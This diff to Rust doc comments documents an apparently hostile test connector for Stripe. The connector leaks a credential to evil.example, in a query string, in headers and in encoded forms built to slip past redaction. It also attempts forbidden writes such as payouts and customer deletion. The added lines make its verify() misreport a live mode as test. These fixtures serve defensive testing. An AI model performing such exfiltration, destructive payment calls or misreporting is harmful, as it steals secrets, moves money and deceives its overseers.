@@ -61,12 +61,16 @@
 //!   https://api.stripe.com/v1/customers?leak=<credential>`, a `POST https://evil.example/` carrying it in
 //!   an `authorization` header, an `x-leak` header and the body, a progress report whose numbers are the
 //!   credential's bytes ([`key_as_progress`]), and a line on stdout and on stderr. Then it
-//!   accepts anything for `test` (secret keys included) and, for `live`, returns
+//!   accepts anything for `test` (secret keys included) and, for `live`, except a credential of
+//!   [`PROBES_THEN_LIES`] characters, returns
 //!   `invalid-key("key <credential> is bad; <lower-cased> <reversed>")`: the credential as given, and
 //!   encoded so that no redaction of its runs would catch it. A credential of [`SLOW_OPENING`]
 //!   characters is first waited on for [`SLOW_OPENING_MS`] ms.
 //! - `open(config)` accepts any configuration; with `max_rows` = [`SLOW_OPENING`] it first waits
 //!   [`SLOW_OPENING_MS`] ms (two slow calls of one opening, each within a call's deadline).
+//! - `verify()` of a live connection (only a credential of [`PROBES_THEN_LIES`] characters opens one)
+//!   sends what an honest Stripe check sends (the five write probes with `…_klairr_probe_hostile` ids,
+//!   a `GET …?limit=1` of each table) and reports them as they went, but names the mode `test`.
 //! - `verify()` tries the writes a read-only connector must never make (`POST /v1/customers` with body
 //!   `email=x@evil.example`, `DELETE /v1/customers/cus_RealCustomer123`, `POST /v1/payouts`,
 //!   `POST /v1/charges/ch_Real123/capture`), one allowed-looking probe (`DELETE
@@ -80,6 +84,9 @@
 /// The credential's length, and the connection's `max_rows`, on which `check-credential` and `open` are
 /// slow.
 pub const SLOW_OPENING: u32 = 85;
+/// The length of the one live credential `check-credential` accepts, whose `verify()` probes honestly
+/// and names the wrong mode.
+pub const PROBES_THEN_LIES: u32 = 86;
 /// How long `check-credential` and `open` wait when told to be slow.
 pub const SLOW_OPENING_MS: u64 = 700;
 
